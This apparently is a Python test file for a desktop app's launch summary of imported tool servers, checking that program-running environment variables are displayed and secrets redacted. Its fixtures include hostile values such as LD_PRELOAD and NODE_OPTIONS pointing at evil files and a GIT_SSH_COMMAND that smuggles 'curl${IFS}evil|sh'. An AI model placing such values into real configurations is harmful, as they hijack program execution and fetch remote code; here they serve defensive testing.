"""The summary of a foreign file's tool servers that the user sees before adding them."""

from __future__ import annotations

import pytest

from desktop_app.domain.errors import ToolServerError
from desktop_app.tools.servers.tool_server import launch_summary, server_of

KEY = "s3cret-0123456789"


@pytest.mark.attack("imports")
@pytest.mark.parametrize(
    ("name", "value"),
    [
        ("NODE_OPTIONS", "--require=/srv/evil.js"),
        ("LD_PRELOAD", "/srv/evil.so"),
        ("PERL5OPT", "-Mevil"),
        ("GIT_ASKPASS", "/srv/evil"),
        ("SSH_ASKPASS", "bin/evil"),
        ("BASH_ENV", "evil-0123456789.sh"),
        ("PYTHONPATH", "evil"),
        ("ALL_PROXY", "evil.example"),
        ("GIT_SSH_COMMAND", "x://a:;curl${IFS}evil|sh;@"),
        ("DBUS_SESSION_BUS_ADDRESS", "unixexec:path=/srv/evil"),
        ("npm_config_registry", "https://evil.example/"),
    ],
)
def test_a_variable_that_can_run_a_program_is_shown_with_its_value(name: str, value: str) -> None:
    server, secrets = server_of("demo", command=("npx", "-y", "good"), environment={name: value})
    assert launch_summary(server, secrets)[1].strip("' ").endswith(f"{name}={value}")


@pytest.mark.attack("imports")
@pytest.mark.parametrize(
    "command",
    [
        ("npx", "-y", "sk-evil-package-1"),
        ("python3", "-Xtoken", "evil.py"),
        ("sh", "-c", "hf_" * 9),
    ],
)
def test_a_word_that_may_run_is_shown_even_if_it_looks_like_a_key(command: tuple[str, ...]) -> None:
    assert launch_summary(*server_of("demo", command=command)) == [f"demo: {' '.join(command)}"]


@pytest.mark.attack("imports")
def test_a_placeholder_does_not_move_a_hidden_argument_to_another_place() -> None:
    command = ("npx", "-y", "${keyring:1}", "--token", "evil-package")
    with pytest.raises(ToolServerError) as error:
        server_of("demo", command=command)
    assert "The command of the tool server" in error.value.message


def test_a_server_at_an_address_is_shown_without_its_query() -> None:
    server, secrets = server_of("demo", url="https://a.example/mcp?k=1", headers={"X-Key": KEY})
    assert launch_summary(server, secrets) == [
        *("demo: https://a.example/mcp?…", "    Sends headers: X-Key")
    ]
    server, secrets = server_of("demo", url="https://a.example/mcp")
    assert launch_summary(server, secrets) == ["demo: https://a.example/mcp"]
    server, secrets = server_of("demo", command=("run", "${env:A}", "${B:-b}"), folder="/srv")
    assert launch_summary(server, secrets)[1:] == [
        *("    Folder: /srv", "    Gets your variables: A, B")
    ]


@pytest.mark.attack("secrets")
@pytest.mark.parametrize(
    ("environment", "shown"),
    [
        ({"TOKEN": KEY, "PASSPHRASE": KEY}, "'TOKEN=…', 'PASSPHRASE=…'"),
        ({"API_KEY": "ab+cd/ef=="}, "'API_KEY=…'"),
        ({"SITE": f"postgres://ann:{KEY}@host/db"}, "'SITE=postgres://…@host/db'"),
        ({"TOKEN": "${env:TOKEN}", "EMPTY": ""}, "'TOKEN=${env:TOKEN}', EMPTY="),
    ],
)
def test_keys_in_variables_are_left_out(environment: dict[str, str], shown: str) -> None:
    command = ("run", "--token", KEY, f"--api-key={KEY}")
    server, secrets = server_of("demo", command=command, environment=environment)
    lines = launch_summary(server, secrets)
    assert lines[:2] == ["demo: run --token '…' '--api-key=…'", f"    Sets variables: {shown}"]
